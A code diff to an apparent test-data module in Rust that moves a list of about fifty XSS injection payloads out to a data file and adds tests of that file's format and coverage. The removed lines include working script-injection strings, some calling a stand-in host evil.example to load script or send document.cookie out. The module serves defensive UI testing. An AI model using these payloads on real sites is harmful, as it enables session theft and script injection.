@@ -3,64 +3,20 @@
 //! corpus; the generator draws from them for commands, window titles, user
 //! names, tags and alert text.
 
-/// At least 50 distinct HTML/JavaScript injection payloads.
-pub const XSS: &[&str] = &[
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "\"><svg onload=alert(1)>",
-    "<svg/onload=alert('xss')>",
-    "<body onload=alert(1)>",
-    "<iframe src=\"javascript:alert(1)\"></iframe>",
-    "javascript:alert(document.cookie)",
-    "<a href=\"javascript:alert(1)\">click</a>",
-    "'\"><script>alert(String.fromCharCode(88,83,83))</script>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<ScRiPt>alert(1)</sCrIpT>",
-    "<script src=//evil.example/x.js></script>",
-    "<img src=\"x\" onerror=\"fetch('//evil.example/'+document.cookie)\">",
-    "<div style=\"background:url(javascript:alert(1))\">",
-    "<input autofocus onfocus=alert(1)>",
-    "<select autofocus onfocus=alert(1)>",
-    "<textarea autofocus onfocus=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<marquee onstart=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<audio src=x onerror=alert(1)>",
-    "<object data=\"javascript:alert(1)\">",
-    "<embed src=\"javascript:alert(1)\">",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
-    "<link rel=import href=\"//evil.example/x\">",
-    "<base href=\"//evil.example/\">",
-    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
-    "<isindex type=image src=1 onerror=alert(1)>",
-    "<table background=\"javascript:alert(1)\">",
-    "<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>",
-    "{{constructor.constructor('alert(1)')()}}",
-    "${alert(1)}",
-    "<%= 7*7 %>",
-    "';alert(1);//",
-    "\";alert(1);//",
-    "</script><script>alert(1)</script>",
-    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
-    "<style>@import 'javascript:alert(1)';</style>",
-    "<x onclick=alert(1)>click me</x>",
-    "<b onmouseover=alert(1)>hover</b>",
-    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
-    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
-    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a></svg>",
-    "<keygen autofocus onfocus=alert(1)>",
-    "<frameset onload=alert(1)>",
-    "<img srcset=\",,,,,x\" onerror=alert(1)>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "<template><img src=x onerror=alert(1)></template>",
-    "<h1 style=\"position:fixed;top:0;left:0;width:100%;height:100%\">PWNED</h1>",
-];
+use std::sync::OnceLock;
+
+/// The XSS corpus, one payload per line. Also read by the end-to-end test
+/// `tests/e2e/hostile.test.mjs`, so the browser checks exactly these strings.
+pub const XSS_FILE: &str = include_str!("../data/xss-payloads.txt");
+
+/// At least 50 distinct HTML/JavaScript injection payloads (the non-empty
+/// lines of [`XSS_FILE`], in file order). Payloads that would run if rendered
+/// as HTML call `alert` (a dialog the browser tests record) or set
+/// `window.__xss`.
+pub fn xss() -> &'static [&'static str] {
+    static LIST: OnceLock<Vec<&'static str>> = OnceLock::new();
+    LIST.get_or_init(|| XSS_FILE.lines().filter(|l| !l.is_empty()).collect())
+}
 
 /// Cells a spreadsheet would run as formulas.
 pub const CSV_FORMULAS: &[&str] = &[
@@ -90,7 +46,7 @@ pub const UNICODE: &[&str] = &[
 
 /// Every hostile string, for places that take any of them.
 pub fn all() -> impl Iterator<Item = &'static str> {
-    XSS.iter().chain(CSV_FORMULAS).chain(UNICODE).copied()
+    xss().iter().chain(CSV_FORMULAS).chain(UNICODE).copied()
 }
 
 /// A 10,000-character line (with a payload at its end, to test truncation in the UI).
@@ -108,4 +64,38 @@ pub fn long_line(seed: u64) -> String {
         s.push('.');
     }
     s
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::collections::HashSet;
+
+    #[test]
+    fn xss_file_has_50_distinct_clean_lines() {
+        let list = xss();
+        let distinct: HashSet<&str> = list.iter().copied().collect();
+        assert!(distinct.len() >= 50, "{} distinct payloads", distinct.len());
+        assert_eq!(distinct.len(), list.len(), "no payload twice");
+        // The JS test splits on '\n' only; a '\r' or padding would make the
+        // two readers disagree about what the payload is.
+        assert!(!XSS_FILE.contains('\r'));
+        assert!(XSS_FILE.ends_with('\n') && !XSS_FILE.contains("\n\n"));
+        for p in list {
+            assert_eq!(*p, p.trim(), "no surrounding whitespace: {p:?}");
+        }
+    }
+
+    #[test]
+    fn xss_file_covers_the_injection_kinds() {
+        let list = xss();
+        let has = |needle: &str| list.iter().any(|p| p.to_ascii_lowercase().contains(needle));
+        for needle in [
+            "<script", "onerror=", "<svg", "onload=", "<iframe", "srcdoc=", "javascript:", "formaction=",
+            "<template", "<style", "\"><", "&lt;", "&#60;", "<object", "<embed", "<base", "<meta",
+            "window.__xss",
+        ] {
+            assert!(has(needle), "a payload with {needle}");
+        }
+    }
 }
